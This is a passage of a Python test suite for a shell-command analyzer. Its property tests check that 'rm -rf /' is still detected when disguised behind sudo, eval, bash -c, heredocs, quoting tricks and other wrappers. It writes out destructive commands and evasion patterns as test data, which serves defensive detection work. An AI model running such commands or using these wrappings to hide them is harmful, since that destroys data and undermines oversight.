    (["bash", "--init-file", "/tmp/rc.sh", "-c", "ls"], "bash --init-file /tmp/rc.sh -c ls"),
    (["bash", "-i", "-c", "ls"], "bash -i -c ls"),
    (["/tmp/x/bash", "-lc", "ls"], "/tmp/x/bash -lc ls"),
    (["./bash", "-c", "ls"], "./bash -c ls"),
    (["/usr/bin/bash", "-lc", "ls"], "ls"),
    (["sh", "-c", " "], "sh -c ' '"),
    (["bash", "script.sh"], "bash script.sh"),
    (["ls", "a b", "$x"], "ls 'a b' '$x'"),
    (["git", "commit", "-m", "it's"], "git commit -m 'it'\"'\"'s'"),
    ([], ""),
]


@pytest.mark.parametrize(("argv", "expected"), SPLIT)
def test_split_argv_command(argv: list[str], expected: str) -> None:
    """argv lists are shell-joined, except a shell -c wrapper which is unwrapped."""
    assert expected == split_argv_command(argv)


def test_split_argv_round_trip() -> None:
    """A joined argv analyses back to the same words."""
    argv = ["rm", "-rf", "a b", "$HOME", "'q'"]
    assert tuple(argv[1:]) == analyze(split_argv_command(argv)).commands[0].args


# --------------------------------------------------------------------------- properties


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_never_raises_on_any_text(text: str) -> None:
    """analyze returns a ShellAnalysis for arbitrary text."""
    a = analyze(text)
    assert isinstance(a, ShellAnalysis)
    assert no_internal_error(a)


SHELLISH = st.text(alphabet="$(){}[]<>|&;'\"`\\ \n\t-=*?~!#%abcrmf/EOF", max_size=200)


@settings(max_examples=500, deadline=None)
@given(SHELLISH)
def test_never_raises_on_shell_metacharacters(text: str) -> None:
    """Metacharacter soup never raises and every command has a name."""
    a = analyze(text)
    assert no_internal_error(a)
    assert all(isinstance(c.name, str) and c.depth >= 0 for c in a.commands)


RM_SPELLINGS = ["rm", "\\rm", "'rm'", '"rm"', 'r"m"', "/bin/rm", "$'rm'", "command rm"]
RM_FLAGS = ["-rf", "-fr", "-r -f", "-Rf", "--recursive --force", "-r --force", "-f -R"]


def _q(s: str) -> str:
    return shlex.quote(s)


# (transform, kind): "prefix" needs a simple command and gives one; "string" quotes its input
# into a shell string (always valid); "struct" needs no heredoc and gives a compound;
# "heredoc" feeds its input to a shell through a heredoc (only prefixes may follow).
WRAPS: list[tuple[Callable[[str], str], str]] = [
    (lambda x: f"sudo {x}", "prefix"),
    (lambda x: f"sudo -u root -E {x}", "prefix"),
    (lambda x: f"doas {x}", "prefix"),
    (lambda x: f"env A=1 {x}", "prefix"),
    (lambda x: f"nice -n 5 {x}", "prefix"),
    (lambda x: f"nohup {x}", "prefix"),
    (lambda x: f"timeout 10 {x}", "prefix"),
    (lambda x: f"time {x}", "prefix"),
    (lambda x: f"stdbuf -o0 {x}", "prefix"),
    (lambda x: f"command {x}", "prefix"),
    (lambda x: f"builtin {x}", "prefix"),
    (lambda x: f"exec {x}", "prefix"),
    (lambda x: f"xargs {x}", "prefix"),
    (lambda x: f"bash -c {_q(x)}", "string"),
    (lambda x: f"sh -lc {_q(x)}", "string"),
    (lambda x: f"eval {_q(x)}", "string"),
    (lambda x: f"su -c {_q(x)}", "string"),
    (lambda x: f"ssh host {_q(x)}", "string"),
    (lambda x: f"watch {_q(x)}", "string"),
    (lambda x: f"xargs sh -c {_q(x)}", "string"),
    (lambda x: f"$( {x} )", "subst"),
    (lambda x: f"echo $( {x} )", "subst"),
    (lambda x: f'echo "$( {x} )"', "subst"),
    (lambda x: f"true && {x}", "struct"),
    (lambda x: f"{x}; true", "struct"),
    (lambda x: f"false || {x}", "struct"),
    (lambda x: f"( {x} )", "struct"),
    (lambda x: f"{{ {x}; }}", "struct"),
    (lambda x: f"{x} | cat", "struct"),
    (lambda x: f"if true; then {x}; fi", "struct"),
    (lambda x: f"bash <<'EOF'\n{x}\nEOF", "heredoc"),
]


def wrap(text: str, picks: list[int]) -> str:
    """Apply the picked transforms that keep the text valid bash."""
    simple, heredoc = True, False
    for i in picks:
        fn, kind = WRAPS[i]
        if (kind == "prefix" and not simple) or (kind in ("subst", "struct") and heredoc):
            continue
        if kind == "heredoc" and "EOF" in text:
            continue
        text = fn(text)
        simple = kind in ("prefix", "string", "subst")
        heredoc = (heredoc and kind == "prefix") or kind == "heredoc"
    return text


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from(RM_SPELLINGS),
    st.sampled_from(RM_FLAGS),
    st.lists(st.sampled_from(range(len(WRAPS))), max_size=4),
)
def test_rm_rf_is_found_however_wrapped(spelling: str, flags: str, wraps: list[int]) -> None:
    """`rm -rf /` behind any wrapper, quoting or list stays a command rm with flags r and f."""
    text = wrap(f"{spelling} {flags} /", wraps)
    a = analyze(text)
    hits = [c for c in a.commands if c.name == "rm" and {"r", "f"} <= c.flags]
    assert hits, (text, names(a), a.errors)


@pytest.mark.parametrize("text", ["command -v rm -rf /", "command -V rm", "command -pv rm ./keep"])
def test_command_v_describes_and_runs_nothing(text: str) -> None:
    """``command -v/-V NAME`` only prints what NAME is (bash 5.2: `command -v rm -rf x` prints
    /usr/bin/rm and removes nothing): NAME is not listed as a command it runs."""
    assert ["command"] == [c.name for c in analyze(text).commands]
